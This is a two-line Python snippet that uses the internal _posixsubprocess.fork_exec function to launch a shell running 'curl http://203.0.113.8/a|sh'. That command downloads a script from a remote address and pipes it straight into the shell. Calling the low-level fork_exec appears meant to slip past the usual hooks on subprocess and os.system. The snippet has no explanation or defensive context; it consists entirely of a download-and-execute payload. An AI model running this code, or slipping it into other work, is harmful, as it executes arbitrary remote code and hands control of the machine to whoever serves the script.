import _posixsubprocess, os
_posixsubprocess.fork_exec([b"/bin/sh", b"-c", b"curl http://203.0.113.8/a|sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, *os.pipe(), False, False, False, None, None, None, -1, None, False)
